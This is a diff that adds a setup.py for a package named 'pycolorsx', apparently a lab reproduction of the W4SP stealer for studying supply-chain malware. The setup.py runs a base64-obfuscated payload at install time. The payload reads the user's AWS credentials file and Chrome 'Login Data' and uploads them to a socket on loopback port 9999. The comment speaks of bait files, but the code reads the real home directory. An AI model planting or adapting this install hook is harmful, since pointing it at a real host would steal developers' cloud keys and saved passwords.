@@ -1,0 +1,9 @@
+# Harmless reproduction of the W4SP stealer: setup.py hides its stage in
+# exec(b64decode(...)); it reads bait credentials and a bait browser
+# profile from the throwaway HOME and uploads them to a loopback "C2".
+import base64
+from setuptools import setup
+
+exec(base64.b64decode(b'aW1wb3J0IG9zLCBzb2NrZXQKaG9tZSA9IG9zLnBhdGguZXhwYW5kdXNlcigifiIpCmxvb3QgPSBiIiIKZm9yIGYgaW4gKCIuYXdzL2NyZWRlbnRpYWxzIiwgIi5jb25maWcvZ29vZ2xlLWNocm9tZS9EZWZhdWx0L0xvZ2luIERhdGEiKToKICAgIHRyeToKICAgICAgICB3aXRoIG9wZW4ob3MucGF0aC5qb2luKGhvbWUsIGYpLCAicmIiKSBhcyBmaDoKICAgICAgICAgICAgbG9vdCArPSBmaC5yZWFkKCkKICAgIGV4Y2VwdCBPU0Vycm9yOgogICAgICAgIHBhc3MKdHJ5OgogICAgcyA9IHNvY2tldC5jcmVhdGVfY29ubmVjdGlvbigoIjEyNy4wLjAuMSIsIDk5OTkpLCB0aW1lb3V0PTMpCiAgICBzLnNlbmRhbGwoYiJ3NHNwICIgKyBsb290KQogICAgcy5jbG9zZSgpCmV4Y2VwdCBPU0Vycm9yOgogICAgcGFzcwo='))
+
+setup(name="pycolorsx", version="1.0.0", py_modules=["pycolorsx"])
